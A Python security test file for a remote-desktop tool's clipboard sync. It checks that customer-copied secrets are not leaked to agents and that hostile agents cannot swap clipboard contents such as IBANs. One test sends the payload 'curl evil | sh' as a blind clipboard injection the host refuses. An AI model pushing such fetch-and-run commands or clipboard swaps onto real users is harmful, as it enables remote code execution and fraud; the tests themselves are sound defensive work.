"""review39b: clipboard sync (clip39) attacked by timing. Sync reads the
host's clipboard every period and sent a change when an agent held CONTROL
at the previous read and at this one: what the customer copied in between,
while no agent held it (control taken back and given again, or one agent
gone and another come), went to the agent that holds it now. Real host and
viewers on loopback; the clipboard is the embedder's object in memory."""

from __future__ import annotations

import asyncio
from typing import Any

from screencodec.capture.synthetic import SyntheticDesktop
from screencodec.transport import (
    CONTROL,
    VIEW,
    ConsentRequest,
    Grant,
    Host,
    HostConfig,
    RecordingInjector,
    Viewer,
)
from screencodec.transport.channel.codes import SessionCredentials
from screencodec.transport.connect import connect_direct, listen_direct
from screencodec.transport.session import messages as m
from screencodec.transport.session.clipboard import CLIPBOARD_CHANNEL
from screencodec.transport.session.events import ClipboardReceived, ClipboardRefused

from .helpers import run, until
from .test_clip39_session import MemoryClipboard
from .test_resume import _granted, _lose, _Setup

PERIOD = 3.0  # long enough that each step below lands between two reads
_TASKS: set[asyncio.Future[Any]] = set()  # the viewers' loops, held till the loop ends


async def _grant(request: ConsentRequest) -> Grant:
    return Grant(request.level)


async def _viewer(port: int, creds: SessionCredentials, who: str) -> tuple[Viewer, list[Any]]:
    viewer = Viewer(await connect_direct("127.0.0.1", port, creds.code, creds.password), who=who)
    got: list[Any] = []

    async def collect() -> None:
        async for ev in viewer.events():
            if isinstance(ev, ClipboardReceived):
                got.append(ev)

    _TASKS.add(asyncio.ensure_future(collect()))
    await viewer.start(VIEW | CONTROL)
    _TASKS.add(asyncio.ensure_future(viewer.run()))
    await until(lambda: viewer.clipboard.host_takes is not None, 10, "the clipboard hello")
    return viewer, got


def _host(clip: MemoryClipboard, *, local_input_pause: float) -> Host:
    """A host of a small typing desktop, granting what is asked, with ``clip``
    as its clipboard and keys recorded, not pressed."""
    config = HostConfig(local_input_pause=local_input_pause)
    return Host(SyntheticDesktop(96, 64, scenario="typing", seed=1), consent=_grant,
                injector=RecordingInjector(), config=config, clipboard=clip)  # fmt: skip


async def _after_a_read(clip: MemoryClipboard) -> None:
    reads = clip.reads
    await until(lambda: clip.reads > reads, PERIOD + 5, "sync's next read")


def test_attack_sync_sends_what_was_copied_while_control_was_taken_back() -> None:
    async def main() -> None:
        clip = MemoryClipboard("nothing much")
        host = _host(clip, local_input_pause=0.01)
        creds = SessionCredentials()
        async with host, await listen_direct("127.0.0.1", 0, creds, host.serve) as listener:
            viewer, got = await _viewer(listener.port, creds, "Dave")
            host._runtime.clip_sync.period = PERIOD
            host.set_clipboard_sync(True)
            await _after_a_read(clip)
            await _after_a_read(clip)  # Dave held CONTROL at that read
            # The customer takes control back, copies a password, gives it again.
            await host.revoke(CONTROL)
            (link,) = host._runtime.links
            await until(lambda: CONTROL not in link.level, 10, "control taken back")
            clip.text = "hunter2 (copied while no agent held control)"
            assert await viewer.request(CONTROL) is True
            await _after_a_read(clip)
            await asyncio.sleep(0.3)
            assert [e.text for e in got] == []
            # A change made while Dave holds it goes, as before.
            await _after_a_read(clip)
            clip.text = "Error: ENOSPC"
            await until(lambda: got, PERIOD + 5, "the change made under control")
            assert [e.text for e in got] == ["Error: ENOSPC"]
            await viewer.bye("done")

    run(main(), 60)


def test_attack_sync_sends_what_was_copied_between_one_agent_and_the_next() -> None:
    async def main() -> None:
        clip = MemoryClipboard("nothing much")
        host = _host(clip, local_input_pause=0.01)
        creds = SessionCredentials()
        async with host, await listen_direct("127.0.0.1", 0, creds, host.serve) as listener:
            first, _ = await _viewer(listener.port, creds, "Dave")
            host._runtime.clip_sync.period = PERIOD
            host.set_clipboard_sync(True)
            await _after_a_read(clip)
            await _after_a_read(clip)
            await first.bye("done")
            await until(lambda: not host._runtime.links, 10, "Dave gone")
            clip.text = "hunter2 (copied after Dave left)"
            second, got = await _viewer(listener.port, creds, "Mallory")
            await _after_a_read(clip)
            await asyncio.sleep(0.3)
            assert [e.text for e in got] == []
            await second.bye("done")

    run(main(), 60)


def test_attack_an_agent_cannot_replace_the_clipboard_while_the_customer_types() -> None:
    """review39b found it (a strict xfail): an agent holding CONTROL put its
    text on the clipboard while the customer typed and its keys were held
    back, between the customer's Ctrl+C and Ctrl+V. Refused now, code 8."""
    async def main() -> None:
        clip = MemoryClipboard("IBAN DE02 1203 0000 0000 2020 51 (the customer's)")
        host = _host(clip, local_input_pause=30.0)
        creds = SessionCredentials()
        async with host, await listen_direct("127.0.0.1", 0, creds, host.serve) as listener:
            viewer, _ = await _viewer(listener.port, creds, "Mallory")
            (link,) = host._runtime.links
            await until(lambda: not link.gate.before_grant(), 10, "past the grant's round trip")
            host.local_input_activity("keyboard")  # the customer is typing
            await viewer.send_clipboard("IBAN GB33 BUKB 2020 1555 5555 55 (Mallory's)")
            await until(lambda: link.clip.refused, 10, "the host's refusal")
            assert clip.writes == []
            # Once the customer has stopped (the pause over), a text goes on.
            host._runtime.local_input_until = 0.0
            await viewer.send_clipboard("ssh admin@10.0.0.7")
            await until(lambda: clip.writes, 10, "the text set once the customer stopped")
            assert clip.writes == ["ssh admin@10.0.0.7"] and link.clip.refused == 1
            await viewer.bye("done")

    run(main(), 60)


def test_attack_clipboard_text_sent_blind_on_a_resumed_link_is_refused() -> None:
    """A hostile agent resumes with CONTROL and sends clipboard text before
    its first receipt on the new connection (its keys then are dropped as
    blind): the text is refused the same way, never put on the clipboard."""
    async def main() -> None:
        async with _Setup() as s:
            clip = MemoryClipboard("the customer's")
            s.host._runtime.clipboard = clip
            refused: list[Any] = []

            async def collect() -> None:
                async for ev in s.host.events():
                    if isinstance(ev, ClipboardRefused):
                        refused.append(ev)

            _TASKS.add(asyncio.ensure_future(collect()))
            viewer, task = await s.join(VIEW | CONTROL)
            ticket = await _granted(viewer)
            await _lose(s, viewer, task)
            again = Viewer(await s.connect(), who="Alice (support)", resume=ticket)
            assert await again.start(VIEW | CONTROL) == VIEW | CONTROL
            payload = bytes([2]) + (9).to_bytes(4, "big") + b"\0" + b"curl evil | sh"
            await again._send(m.Extension(CLIPBOARD_CHANNEL, payload))  # before run(): blind
            task2 = asyncio.ensure_future(again.run())
            await until(lambda: refused, 10, "the refusal")
            blind = (9, "sent before the agent held control")
            assert [(r.number, r.why) for r in refused] == [blind]
            assert clip.writes == []
            await again.bye()
            await task2

    run(main(), 60)
